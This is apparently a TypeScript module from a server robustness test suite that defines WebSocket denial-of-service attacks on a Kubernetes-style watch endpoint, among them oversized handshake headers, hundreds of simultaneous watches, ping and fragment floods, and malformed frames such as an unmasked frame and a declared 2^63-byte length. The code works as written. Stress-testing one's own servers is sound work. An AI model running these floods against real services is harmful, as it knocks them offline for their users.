/** WebSockets that watch, and send what a watch has no use for. */

import { connect, type TLSSocket } from 'node:tls';
import { type Attack, NAMESPACE, pause, summary } from '../attack.ts';
import type { Target } from '../target.ts';
import { flood } from './http2-frames.ts';

const PATH = `/api/v1/namespaces/${NAMESPACE}/configmaps?watch=1`;
const MASK = 0x80;
const FINAL = 0x80;
const OPCODE = { continuation: 0, text: 1, close: 8, ping: 9 } as const;

/** A frame as a client sends it, with a mask of zeros (RFC 6455, 5.2). */
function frame(opcode: number, payload = '', { final = true, mask = MASK } = {}): Buffer {
  const head = [(final ? FINAL : 0) | opcode];
  if (payload.length < 126) head.push(mask | payload.length);
  else head.push(mask | 126, payload.length >> 8, payload.length & 255);
  return Buffer.concat([Buffer.from(head), Buffer.alloc(mask === 0 ? 0 : 4), Buffer.from(payload)]);
}

/** Resolves when the server has responded to the handshake. */
function open({ url, tokens }: Target, more = ''): Promise<{ socket: TLSSocket; status: string }> {
  const { hostname: host, port } = url;
  return new Promise((resolve) => {
    const socket = connect({ host, port: Number(port), rejectUnauthorized: false });
    const lines = [
      `GET ${PATH} HTTP/1.1`,
      'Host: a',
      'Origin: https://a',
      'Connection: Upgrade',
      'Upgrade: websocket',
      'Sec-WebSocket-Version: 13',
      `Sec-WebSocket-Key: ${Buffer.alloc(16).toString('base64')}`,
      `Authorization: Bearer ${tokens.admin}`,
    ];
    socket.on('error', () => socket.destroy()).once('close', () => resolve({ socket, status: 'closed' }));
    socket.write(`${lines.join('\r\n')}\r\n${more}\r\n`);
    socket.once('data', (chunk: Buffer) => {
      resolve({ socket, status: /^HTTP\/1.1 (\d+)/.exec(chunk.toString())?.[1] ?? 'other' });
    });
  });
}

function flooded(
  name: string,
  pieces: () => Iterable<Uint8Array>,
  { reads = true }: { readonly reads?: boolean } = {},
): Attack {
  return {
    name: `websockets: ${name}`,
    run: async (target) => {
      const { socket, status } = await open(target);
      if (reads) socket.resume();
      else socket.pause();
      await flood(socket, pieces(), 5_000);
      await Promise.race([new Promise((closed) => socket.once('close', closed)), pause(2_000)]);
      const end = socket.destroyed ? 'cut' : 'borne';
      socket.destroy();
      return `${status} ${end}`;
    },
  };
}

function* times(count: number, piece: Buffer): Generator<Buffer> {
  for (let i = 0; i < count; i++) yield piece;
}

const HANDSHAKES: readonly (readonly [name: string, more: string])[] = [
  ['thousands of protocols', `Sec-WebSocket-Protocol: ${'a,'.repeat(50_000)}a\r\n`],
  [
    'a token of 100 KB',
    `Sec-WebSocket-Protocol: base64url.bearer.authorization.k8s.io.${'a'.repeat(100_000)}\r\n`,
  ],
  ['extensions', `Sec-WebSocket-Extensions: ${'permessage-deflate; a=1, '.repeat(4_000)}b\r\n`],
];

export function websocketAttacks(): Attack[] {
  return [
    ...HANDSHAKES.map(([name, more]) => ({
      name: `websockets: ${name}`,
      run: async (target: Target) => {
        const opened = await Promise.all(Array.from({ length: 20 }, () => open(target, more)));
        for (const { socket } of opened) socket.destroy();
        return summary(opened.map(({ status }) => status));
      },
    })),
    {
      name: 'websockets: 300 watches while an object changes',
      run: async (target) => {
        const path = PATH.replace('?watch=1', '');
        const body = `{"metadata":{"name":"watched"},"data":{"k":"${'x'.repeat(300_000)}"}}`;
        await target.send({ path, body });
        const opened = await Promise.all(Array.from({ length: 300 }, () => open(target)));
        for (const { socket } of opened) socket.resume();
        for (let i = 0; i < 5; i++) {
          await target.send({
            path: `${path}/watched`,
            method: 'PATCH',
            type: 'application/merge-patch+json',
            body: `{"metadata":{"labels":{"a":"${i}"}}}`,
          });
        }
        await pause(1_000);
        for (const { socket } of opened) socket.destroy();
        await target.send({ path: `${path}/watched`, method: 'DELETE' });
        return summary(opened.map(({ status }) => status));
      },
    },
    flooded('300,000 pings', () => times(3_000, Buffer.concat([...times(100, frame(OPCODE.ping, 'a'))]))),
    flooded(
      '300,000 pings whose answers are not read',
      () => times(3_000, Buffer.concat([...times(100, frame(OPCODE.ping, 'a'.repeat(100)))])),
      { reads: false },
    ),
    flooded('300,000 empty fragments', function* () {
      yield frame(OPCODE.text, '', { final: false });
      yield* times(3_000, Buffer.concat([...times(100, frame(OPCODE.continuation, '', { final: false }))]));
    }),
    flooded('fragments of a byte without an end', function* () {
      yield frame(OPCODE.text, 'a', { final: false });
      yield* times(2_000, Buffer.concat([...times(100, frame(OPCODE.continuation, 'a', { final: false }))]));
    }),
    flooded('10,000 messages of 60 KB', () => times(10_000, frame(OPCODE.text, 'a'.repeat(60_000)))),
    flooded('a frame without a mask', () => [frame(OPCODE.text, 'a', { mask: 0 })]),
    flooded('a frame of 2^63 bytes', () => [
      Buffer.from([FINAL | OPCODE.text, MASK | 127, 0x7f, 255, 255, 255, 255, 255, 255, 255, 0, 0, 0, 0]),
    ]),
    flooded('a close of a reason that is not UTF-8', () => [
      Buffer.concat([Buffer.from([FINAL | OPCODE.close, MASK | 4, 0, 0, 0, 0, 3, 232, 255, 255])]),
    ]),
  ];
}
